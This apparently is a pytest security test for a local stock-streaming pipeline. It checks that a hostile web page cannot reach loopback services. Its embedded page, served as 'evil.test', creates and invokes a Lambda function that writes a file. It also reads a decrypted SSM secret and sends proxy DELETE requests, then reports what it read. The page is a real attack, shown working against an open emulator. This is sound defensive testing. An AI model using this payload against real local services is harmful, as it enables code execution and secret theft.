"""A web page that is open in a browser here, while the pipeline runs: it reaches nothing of it.

The page is served on this machine, so that no browser's own rules for the way from the internet to the
loopback stand between. The same page shows on ministack as it comes that the attack is real.
"""

import ast
import base64
import io
import json
import os
import shutil
import sys
import time
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from queue import SimpleQueue
from threading import Thread
from typing import Any
from urllib.parse import urlsplit

import boto3
import pytest
import requests
from reaching import reaching
from served_page import serve_lake

from stockstream_local.emulator.server import choose_port, run_emulator
from stockstream_local.faults.catalogue import Faults
from stockstream_local.faults.fault_server import FaultServer
from stockstream_local.market.replay import InventedMarket, ReplayMarket
from stockstream_local.notices import NoticeReceiver
from stockstream_local.processes import run_group
from stockstream_operate.environment import Emulator, isolate
from stockstream_operate.page.page_server import PageServer
from stockstream_operate.search.client import Server
from stockstream_operate.search.dashboards_proxy import run_dashboards_proxy

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
ROOT = Path(__file__).parents[2]
SECONDS = 60
KEY = "the provider's key"
PAGE = """<!doctype html><script>
const attack = ATTACK, heard = [];
async function send(url, options) {
  try {
    const answer = await fetch(url, options);
    heard.push(await answer.text());
  } catch (error) { heard.push("") }
}
(async () => {
  for (const base of attack.emulators) {
    const plain = { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" } };
    await send(base + "/2015-03-31/functions", { ...plain, body: attack.function });
    await send(base + "/2015-03-31/functions/evil/invocations", { ...plain, body: "{}" });
    const target = { "X-Amz-Target": "AmazonSSM.GetParameter", "Content-Type": "text/plain" };
    const asked = JSON.stringify({ Name: "/key", WithDecryption: true });
    await send(base + "/", { method: "POST", headers: target, body: asked });
    await send(base + "/", { method: "GET" });
  }
  for (const base of attack.servers) {
    const pages = ["/view", "/_dashboards/", "/_dashboards/api/console/proxy?path=bars&method=DELETE"];
    for (const path of ["", "/begin/stream-full", "/query?function=FX_INTRADAY", ...pages]) {
      await send(base + path, { method: "POST", mode: "no-cors", body: "{}" });
      await send(base + path, { method: "GET" });
    }
  }
  await fetch("/heard", { method: "POST", body: JSON.stringify(heard) });
})();
</script>"""


class Attacker:
    """A web site whose page attacks what listens on some ports, and tells the site what it could read."""

    def __init__(self, ports: dict[str, list[int]], proof: Path) -> None:
        self.heard: SimpleQueue[list[str]] = SimpleQueue()
        names = ("127.0.0.1", "evil.test")  # the second was made to point to this machine
        urls = {
            kind: [f"http://{name}:{port}" for name in names for port in of] for kind, of in ports.items()
        }
        page = PAGE.replace("ATTACK", json.dumps({**urls, "function": _write_function(proof)})).encode()
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(page)

            def do_POST(self) -> None:
                heard.put(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self._answer(b"")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: Any) -> None:
                """Says nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    def play(self, folder: Path) -> list[str]:
        """Opens the page in a browser; what it could read of each answer."""
        thread = Thread(target=self.server.serve_forever, daemon=True)
        thread.start()
        command = [
            *(str(BROWSER), "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"),
            *("--no-first-run", f"--user-data-dir={folder}/profile", "--remote-debugging-port=0"),
            "--host-resolver-rules=MAP evil.test 127.0.0.1",
            f"http://evil.test:{self.server.server_port}/",
        ]
        folder.mkdir()
        try:
            with run_group(command, os.environ, folder, folder / "browser.log"):
                return self.heard.get(timeout=SECONDS)
        finally:
            self.server.shutdown()
            self.server.server_close()
            thread.join()


def _write_function(proof: Path) -> str:
    """A request to create a function that leaves a file on this machine when it is run."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("evil.py", f"def handler(event, context):\n    open({str(proof)!r}, 'w').close()\n")
    return json.dumps(
        {
            "FunctionName": "evil",
            "Runtime": "python3.13",
            "Handler": "evil.handler",
            "Role": "arn:aws:iam::000000000000:role/evil",
            "Code": {"ZipFile": base64.b64encode(archive.getvalue()).decode()},
        }
    )


def store_key() -> None:
    boto3.client("ssm").put_parameter(Name="/key", Value=KEY, Type="SecureString")


def find_servers() -> set[str]:
    """The classes of servers in the code: what listens on this machine is one of them, or the emulator."""
    bases: dict[str, set[str]] = {}
    for file in (path for name in ("operate", "local") for path in (ROOT / name).rglob("*.py")):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.ClassDef):
                bases[node.name] = {ast.unparse(base).rpartition(".")[2] for base in node.bases}
    found = {
        name for name, of in bases.items() if any(base.endswith(("HTTPServer", "TCPServer")) for base in of)
    }
    # This one makes its server itself.
    return found | {name for name, of in bases.items() if "LoopbackServer" in of}


def test_each_server_that_the_code_has_is_attacked() -> None:
    # The relay listens on Docker's bridge while a container runs, and passes on to these.
    attacked = {ReplayMarket, NoticeReceiver, FaultServer, PageServer}

    assert find_servers() == {each.__name__ for each in attacked} | {"_ProxyServer", "_Relay"}


@pytest.mark.skipif(BROWSER is None, reason="no Chromium or Chrome here (Debian: apt install chromium)")
def test_a_web_page_reaches_nothing_of_a_running_pipeline(tmp_path: Path) -> None:
    market, receiver, signed = ReplayMarket(InventedMarket()), NoticeReceiver(), NoticeReceiver()
    faults = Faults(market, receiver, tmp_path, lambda _name: "none")
    fault_server = FaultServer(faults, lambda _said: None)
    with (
        market,
        receiver,
        fault_server,
        signed,
        serve_lake(tmp_path / "lake") as page,
        # What stands behind it would take each request that it passed on.
        run_dashboards_proxy(Server(signed.url, ("ann", KEY)), 0) as proxy,
        run_emulator(None, os.environ, tmp_path) as emulator,
        reaching(emulator),
    ):
        store_key()
        urls = (market.url, receiver.url, fault_server.url, page.url, proxy)
        ports = [urlsplit(each).port or 0 for each in urls]
        attack = {"emulators": [urlsplit(emulator.url).port or 0], "servers": ports}

        heard = Attacker(attack, tmp_path / "proof").play(tmp_path / "browser")

        assert boto3.client("lambda").list_functions()["Functions"] == []
    # Four requests to the emulator and two for each path of a server, by both names; none could be read.
    assert heard == [""] * 2 * (4 + len(urls) * 2 * 6)
    assert not (tmp_path / "proof").exists()
    assert market.requests == []
    assert receiver.notices.empty()
    assert signed.notices.empty()
    assert faults.active == set()


@pytest.mark.skipif(BROWSER is None, reason="no Chromium or Chrome here (Debian: apt install chromium)")
def test_the_attack_is_real_where_the_emulator_answers_everybody(tmp_path: Path) -> None:
    port = choose_port(None)
    emulator = Emulator(f"http://127.0.0.1:{port}", "any")
    settings = {"BIND_HOST": "127.0.0.1", "GATEWAY_PORT": str(port), "TMPDIR": str(tmp_path)}
    settings |= {"IOT_MTLS_ENABLED": "0", "SFTP_ENABLED": "0", "DOCKER_HOST": f"unix://{tmp_path}/none.sock"}
    command = [str(Path(sys.executable).with_name("ministack"))]
    with (
        run_group(command, isolate(os.environ, emulator) | settings, tmp_path, tmp_path / "ministack.log"),
        reaching(emulator),
    ):
        _await(emulator.url)
        store_key()

        heard = Attacker({"emulators": [port], "servers": []}, tmp_path / "proof").play(tmp_path / "browser")

        assert (tmp_path / "proof").exists()
    assert any(KEY in each for each in heard)


def _await(url: str) -> None:
    for _ in range(SECONDS * 10):
        try:
            requests.get(f"{url}/_ministack/ready", timeout=1)
        except requests.RequestException:
            time.sleep(0.1)
            continue
        return
    pytest.fail("ministack does not start")
